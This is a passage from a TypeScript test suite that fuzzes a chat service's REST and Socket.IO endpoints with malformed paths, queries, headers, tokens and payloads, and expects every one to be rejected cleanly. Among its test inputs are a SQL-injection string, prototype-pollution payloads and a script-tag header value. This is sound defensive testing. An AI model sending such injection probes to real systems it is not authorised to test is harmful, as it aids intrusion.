      ['a lone regional indicator', encodeURIComponent('🇫')],
      ['a lone zero-width joiner', encodeURIComponent('\u200D')],
      ['a digit', '1'],
      ['an upper-case shortcode', encodeURIComponent(':Thumbs_Up:')],
      ['an empty shortcode', encodeURIComponent('::')],
      ['a shortcode of 33', encodeURIComponent(`:${'s'.repeat(33)}:`)],
      ['a shortcode with a space', encodeURIComponent(':a b:')],
      ['a shortcode without its end', encodeURIComponent(':abc')],
      ['a double-encoded shortcode', '%253Aok%253A'],
      ['a percent-encoded slash', `${encodeURIComponent('👍')}%2F`],
    ]) {
      for (const method of ['PUT', 'DELETE']) {
        cases.push({
          label: `emoji: ${what}`,
          method,
          path: `${conv}/messages/${message}/reactions/${emoji}`,
          expect: '4xx',
        });
      }
    }

    // Query strings.
    const listQueries = [
      'limit=0',
      'limit=-1',
      'limit=101',
      'limit=1.5',
      'limit=NaN',
      'limit=abc',
      'limit=1e3',
      'limit=Infinity',
      `limit=${'9'.repeat(400)}`,
      'limit=1&limit=2',
      'limit[]=1',
      'limit[a]=1',
      'limit=',
      'unknown=1',
      '__proto__[x]=1',
      'constructor[prototype][x]=1',
      `cursor=${'x'.repeat(600)}`,
      'cursor=not-a-cursor',
      'cursor=%00',
      `cursor=${b64({ seq: -1, id: "' OR 1=1" })}`,
      'cursor=eyJ9',
      'cursor=a&cursor=b',
      // Cursors that decode, with every field of every list's cursor wrong in some way.
      ...craftedCursors.map((position) => `cursor=${b64(JSON.stringify(position))}`),
    ];
    for (const path of [
      `${api}/conversations`,
      `${api}/users/me/blocks`,
      `${api}/notifications`,
      `${api}/users?search=fz`,
    ]) {
      for (const query of listQueries) {
        cases.push({
          label: `query ${query.slice(0, 40)}`,
          method: 'GET',
          path: `${path}${path.includes('?') ? '&' : '?'}${query}`,
          expect: '4xx',
        });
      }
    }
    for (const query of ['unreadOnly=yes', 'unreadOnly=1', 'unreadOnly=true&unreadOnly=false', 'unreadOnly[]=true']) {
      cases.push({ label: `query ${query}`, method: 'GET', path: `${api}/notifications?${query}`, expect: '4xx' });
    }
    for (const query of [
      '',
      'search=',
      `search=${'s'.repeat(65)}`,
      'search=a&search=b',
      'search[x]=1',
      `search=${'s'.repeat(20_000)}`,
    ]) {
      cases.push({ label: `query ${query.slice(0, 40)}`, method: 'GET', path: `${api}/users?${query}`, expect: '4xx' });
    }
    for (const query of [
      'before=0',
      'before=-1',
      'after=-1',
      'before=abc',
      'after=1.5',
      'before=2147483648',
      'before=1&after=1',
      'before=1&before=2',
      'limit=0',
      'limit=101',
      'x=1',
      `before=${'9'.repeat(400)}`,
    ]) {
      cases.push({
        label: `query ${query.slice(0, 40)}`,
        method: 'GET',
        path: `${conv}/messages?${query}`,
        expect: '4xx',
      });
    }
    for (const query of [
      'since=-1',
      'since=abc',
      'since=1.5',
      'since=1&since=2',
      'limit=0',
      'limit=501',
      'x=1',
      `cursor=${'c'.repeat(600)}`,
      'cursor=garbage',
      'since=Infinity',
      ...[
        { version: '9223372036854775808' },
        { version: '9999999999999999999' },
        { version: '-1' },
        { version: 1 },
        { version: '1e3' },
        { version: '1\u0000' },
        { version: null },
        [],
        'x',
      ].map((position) => `cursor=${b64(JSON.stringify(position))}`),
    ]) {
      cases.push({ label: `query ${query.slice(0, 40)}`, method: 'GET', path: `${conv}/sync?${query}`, expect: '4xx' });
    }
    for (const path of ['/health', '/health/liveness', '/health/readiness', '/health/metrics']) {
      for (const query of ['x=1', `x=${'x'.repeat(5000)}`, '__proto__[x]=1', 'a=1&a=2&a=3']) {
        cases.push({
          label: `query ${query.slice(0, 20)}`,
          method: 'GET',
          path: `${path}?${query}`,
          auth: null,
          expect: 'not5xx',
        });
      }
    }

    // Headers.
    const headerCases: [string, Record<string, string>, Expect][] = [
      ['Basic scheme', { authorization: 'Basic dXNlcjpwYXNz' }, 401],
      ['Bearer with no token', { authorization: 'Bearer' }, 401],
      ['Bearer and a space', { authorization: 'Bearer ' }, 401],
      ['two Bearer tokens', { authorization: `Bearer ${owner.accessToken} ${owner.accessToken}` }, 401],
      ['token without a scheme', { authorization: owner.accessToken }, 401],
      ['Token scheme', { authorization: `Token ${owner.accessToken}` }, 401],
      ['Bearer, a comma and a token', { authorization: `Bearer ,${owner.accessToken}` }, 401],
      ['a huge X-Request-Id', { ...bearer(owner.accessToken), 'x-request-id': 'r'.repeat(8000) }, 'not5xx'],
      [
        'an X-Request-Id with odd characters',
        { ...bearer(owner.accessToken), 'x-request-id': '<script>"\'; --' },
        'not5xx',
      ],
      ['a 40 KB header', { ...bearer(owner.accessToken), 'x-junk': 'j'.repeat(40_000) }, '4xx'],
    ];
    for (const [what, headers, expect] of headerCases) {
      cases.push({ label: `header: ${what}`, method: 'GET', path: `${api}/users/me`, auth: null, headers, expect });
    }

    // Tokens, at every authenticated route.
    const authed: [string, string][] = [
      ['POST', `${api}/auth/logout`],
      ['POST', `${api}/auth/logout-all`],
      ['GET', `${api}/auth/sessions`],
      ['DELETE', `${api}/auth/sessions/${owner.sessionId}`],
      ['GET', `${api}/users/me`],
      ['PATCH', `${api}/users/me`],
      ['DELETE', `${api}/users/me`],
      ['GET', `${api}/users/me/blocks`],
      ['GET', `${api}/users?search=a`],
      ['GET', `${api}/users/${member.user.id}`],
      ['POST', `${api}/users/${member.user.id}/block`],
      ['DELETE', `${api}/users/${member.user.id}/block`],
      ['GET', `${api}/users/${member.user.id}/presence`],
      ['POST', `${api}/users/presence`],
      ['POST', `${api}/conversations`],
      ['GET', `${api}/conversations`],
      ['GET', `${api}/conversations/unread`],
      ['GET', conv],
      ['PATCH', conv],
      ['DELETE', conv],
      ['POST', `${conv}/members`],
      ['PATCH', `${conv}/members/${member.user.id}`],
      ['DELETE', `${conv}/members/${member.user.id}`],
      ['POST', `${conv}/accept`],
      ['POST', `${conv}/decline`],
      ['POST', `${conv}/read`],
      ['POST', `${conv}/messages`],
      ['GET', `${conv}/messages`],
      ['PATCH', `${conv}/messages/${message}`],
      ['DELETE', `${conv}/messages/${message}`],
      ['PUT', `${conv}/messages/${message}/reactions/%F0%9F%91%8D`],
      ['DELETE', `${conv}/messages/${message}/reactions/%F0%9F%91%8D`],
      ['GET', `${conv}/sync`],
      ['GET', `${api}/notifications`],
      ['GET', `${api}/notifications/unread-count`],
      ['POST', `${api}/notifications/read`],
      ['POST', `${api}/notifications/read-all`],
    ];
    const validBodies: Record<string, unknown> = {
      [`PATCH ${api}/users/me`]: { bio: 'x' },
      [`POST ${api}/users/presence`]: { userIds: [member.user.id] },
      [`POST ${api}/conversations`]: { type: 'direct', userId: member.user.id },
      [`PATCH ${conv}`]: { title: 'x' },
      [`POST ${conv}/members`]: { userIds: [randomUUID()] },
      [`PATCH ${conv}/members/${member.user.id}`]: { role: 'admin' },
      [`POST ${conv}/read`]: { seq: 1 },
      [`POST ${conv}/messages`]: { clientMessageId: randomUUID(), body: 'x' },
      [`PATCH ${conv}/messages/${message}`]: { body: 'x' },
      [`POST ${api}/notifications/read`]: { ids: [randomUUID()] },
    };
    for (const [what, token] of badTokens(owner)) {
      for (const [method, path] of authed) {
        cases.push({
          label: `token: ${what}`,
          method,
          path,
          auth: token === undefined ? null : { authorization: `Bearer ${token}` },
          body: validBodies[`${method} ${path}`],
          expect: 401,
        });
      }
    }

    // Logging out must not happen on a body that does not parse; a throwaway session takes the risk.
    for (const path of [`${api}/auth/logout`, `${api}/auth/logout-all`]) {
      for (const [what, raw] of [
        ['not JSON', 'nope'],
        ['truncated JSON', '{"a":'],
        ['over the limit', JSON.stringify({ pad: 'x'.repeat(1_100_000) })],
      ]) {
        cases.push({
          label: `body: ${what}`,
          method: 'POST',
          path,
          auth: 'throwaway',
          raw: { body: raw },
          expect: '4xx',
        });
      }
    }

    const started = Date.now();
    await runAll(cases);
    const summary = [...statuses.entries()].sort(([a], [b]) => a - b).map(([s, n]) => `${s}×${n}`);
    console.log(
      `REST: ${cases.length} cases, ${requests} requests in ${Date.now() - started} ms; ${summary.join(' ')}`,
    );
    expect(failures).toEqual([]);
    expect(cases.length).toBeGreaterThan(2000);
    // Validation answered, not only the rate limits.
    expect(statuses.get(400) ?? 0).toBeGreaterThan(cases.length / 3);
  }, 120_000);

  describe('Socket.IO', () => {
    const sockets: ClientSocket[] = [];
    afterAll(() => sockets.forEach((socket) => socket.close()));
    const open = async (who: SignedIn) => {
      const socket = await connectSocket(t.baseUrl, who.accessToken);
      sockets.push(socket);
      return socket;
    };

    it('refuses bad tokens at the handshake with UNAUTHORIZED', async () => {
      const results: string[] = [];
      for (const [what, token] of badTokens(owner)) {
        const outcome = await refusedWith(t.baseUrl, token);
        if (outcome !== 'UNAUTHORIZED') results.push(`${what}: ${outcome}`);
      }
      for (const [what, token] of [
        ['a number', 42],
        ['an object', { token: owner.accessToken }],
        ['an array', [owner.accessToken]],
        ['null', null],
        ['30k characters', 'x'.repeat(30_000)],
        ['a NUL', `${owner.accessToken}\u0000`],
      ] as [string, unknown][]) {
        const outcome = await new Promise<string>((resolve) => {
          const socket = io(t.baseUrl, {
            path: '/socket.io',
            transports: ['websocket'],
            auth: { token },
            reconnection: false,
            forceNew: true,
          });
          const timer = setTimeout(() => (socket.close(), resolve('no answer within 5 s')), 5000);
          const done = (outcome: string) => (clearTimeout(timer), socket.close(), resolve(outcome));
          socket.once('connect', () => done('connected'));
          socket.once('connect_error', (error) => done(error.message));
        });
        if (outcome !== 'UNAUTHORIZED') results.push(`${what}: ${outcome}`);
      }
      expect(results).toEqual([]);
    });

    it('answers every malformed client event with an error ack, and stays connected', async () => {
      const nowhere = randomUUID();
      const payloads: [string, (index: number) => Record<string, unknown>, Field[]][] = [
        [
          'message.send',
          () => ({ conversationId: conversation, clientMessageId: randomUUID(), body: 'hello' }),
          [
            uuid('conversationId'),
            uuid('clientMessageId'),
            {
              name: 'body',
              invalid: [
                ...text('body', { notBlank: true }).invalid,
                ['4001 characters', 'b'.repeat(4001)],
                ...overLimit(4000),
              ],
            },
            uuid('replyToId', false),
            attachments,
          ],
        ],
        ['typing.start', () => ({ conversationId: conversation }), [uuid('conversationId')]],
        ['typing.stop', () => ({ conversationId: conversation }), [uuid('conversationId')]],
        ['conversation.read', () => ({ conversationId: conversation, seq: 1 }), [uuid('conversationId'), int('seq')]],
        [
          'sync',
          () => ({ conversationId: conversation, since: 0 }),
          [
            uuid('conversationId'),
            {
              name: 'since',
              invalid: [
                ['a word', 'abc'],
                ['negative', -1],
                ['a float', 1.5],
                ['2^31', 2 ** 31],
                ['an object', { a: 1 }],
              ],
            },
            {
              name: 'limit',
              invalid: [
                ['zero', 0],
                ['501', 501],
                ['a word', 'abc'],
              ],
            },
            {
              name: 'cursor',
              invalid: [
                ['a number', 5],
                ['600 characters', 'c'.repeat(600)],
                ['garbage', 'garbage'],
                ['an object', { a: 1 }],
              ],
            },
          ],
        ],
        ['presence.query', () => ({ userIds: [member.user.id] }), [uuidList('userIds', 200)]],
        [
          'auth',
          () => ({ accessToken: owner.accessToken }),
          [
            {
              name: 'accessToken',
              invalid: [
                ['missing', undefined],
                ['empty', ''],
                ['a number', 42],
                ['an object', { a: 1 }],
                ['5000 characters', 'x'.repeat(5000)],
                ['not a JWT', 'garbage'],
              ],
            },
          ],
        ],
      ];
      const whole: [string, unknown][] = [
        ['no payload', undefined],
        ['null', null],
        ['a number', 42],
        ['a string', 'hello'],
        ['an array', [1, 2]],
        ['true', true],
        ['an empty object', {}],
        ['a __proto__ payload', JSON.parse('{"__proto__":{"polluted":true}}')],
        ['nested 40 deep', deep(40)],
      ];
      const cases: { event: string; label: string; payload: unknown; noPayload?: boolean }[] = [];
      for (const [event, valid, fields] of payloads) {
        for (const [what, payload] of whole)
          cases.push({ event, label: what, payload, noPayload: payload === undefined });
        cases.push({ event, label: 'an unknown field', payload: { ...valid(0), isAdmin: true } });
        for (const field of fields) {
          for (const [what, value] of field.invalid) {
            const payload = valid(0);
            if (value === undefined) delete payload[field.name];
            else payload[field.name] = value;
            cases.push({ event, label: `${field.name}: ${what}`, payload });
          }
        }
        for (let i = 0; i < 25; i += 1) {
          const field = rng.pick(fields);
          const [what, value] = rng.pick(field.invalid);
          const payload = { ...valid(i), [field.name]: value };
          if (value === undefined) delete payload[field.name];
          if (rng.next() < 0.4) payload[`k${rng.int(100)}`] = rng.pick(freeText)[1];
          cases.push({ event, label: `seeded #${i}: ${field.name}: ${what}`, payload });
        }
      }
      for (const [what, value] of freeText) {
        cases.push({
          event: 'message.send',
          label: `free text to nowhere: ${what}`,
          payload: { conversationId: nowhere, clientMessageId: randomUUID(), body: value },
        });
      }
      cases.push({ event: 'no.such.event', label: 'an unknown event', payload: { a: 1 } });
      // A packet over SOCKET_MAX_PAYLOAD_BYTES closes the connection: that has a test of its own.
      const fits = cases.filter((c) => (JSON.stringify(c.payload) ?? '').length < 60_000);
      cases.splice(0, cases.length, ...fits);

      const fuzzSockets = await Promise.all(socketSenders.map(open));
      const failed: string[] = [];
      let acks = 0;
      let next = 0;
      const worker = async (socket: ClientSocket) => {
        while (next < cases.length) {
          const c = cases[next];
          next += 1;
          const where = `${c.event} [${c.label}] payload ${printable(c.payload)}`;
          if (c.event === 'no.such.event') {
            // Nobody answers an unknown event; it must only be ignored.
            socket.emit(c.event as any, c.payload);
            continue;
          }
          try {
            const reply: any = c.noPayload
              ? await (socket.timeout(5000) as any).emitWithAck(c.event)
              : await request(socket, c.event as any, c.payload);
            acks += 1;
            const error = reply?.error;
            const good =
              reply?.ok === false &&
              typeof error?.statusCode === 'number' &&
              error.statusCode >= 400 &&
              error.statusCode < 500 &&
              typeof error.code === 'string' &&
              typeof error.message === 'string' &&
              typeof error.requestId === 'string';
            if (!good) failed.push(`${where}: ack ${printable(reply)}`);
          } catch (error) {
            failed.push(`${where}: ${(error as Error).message}`);
          }
          // Events without an ack callback must not hurt either.
          socket.emit(c.event as any, c.payload);
        }
      };
      await Promise.all(fuzzSockets.flatMap((socket) => [worker(socket), worker(socket), worker(socket)]));
      console.log(`Socket.IO: ${cases.length} cases, ${acks} acks`);
      expect(failed).toEqual([]);
      expect(cases.length).toBeGreaterThan(300);
      expect(fuzzSockets.every((socket) => socket.connected)).toBe(true);
      // The connections still work.
      const reply: any = await request(fuzzSockets[0], 'sync', { conversationId: conversation, since: 0 });
      expect(reply).toEqual({ ok: true, data: expect.objectContaining({ lastSeq: 1 }) });
    }, 60_000);

    it('closes a connection that sends more than 64 KB in one event, and nothing else', async () => {
      const [victim, bystander] = [await open(member), await open(owner)];
      const closed = new Promise<string>((resolve) => victim.once('disconnect', (reason) => resolve(reason)));
      victim.emit('message.send' as any, {
        conversationId: conversation,
        clientMessageId: randomUUID(),
        body: 'x'.repeat(70_000),
      });
      await expect(closed).resolves.toEqual(expect.any(String));
      expect(bystander.connected).toBe(true);
      const reply: any = await request(bystander, 'presence.query', { userIds: [member.user.id] });
      expect(reply.ok).toBe(true);
    }, 20_000);
  });

  it('stored nothing and is still up', async () => {
    expect(await settledCounts()).toEqual(before);
    expectStatus(await t.request('GET', '/health/liveness'), 200);
    const profile = expectStatus<{ id: string; bio: string | null }>(
      await t.request('GET', '/api/v1/users/me', { headers: bearer(owner.accessToken) }),
      200,
    );
    expect(profile.id).toBe(owner.user.id);
    // The throwaway session survived bodies that did not parse.
    expectStatus(await t.request('GET', '/api/v1/users/me', { headers: bearer(throwaway.accessToken) }), 200);
    const sent = await chat(t, member).send(conversation, 'still working');
    expectStatus(sent, 201);
  });
});
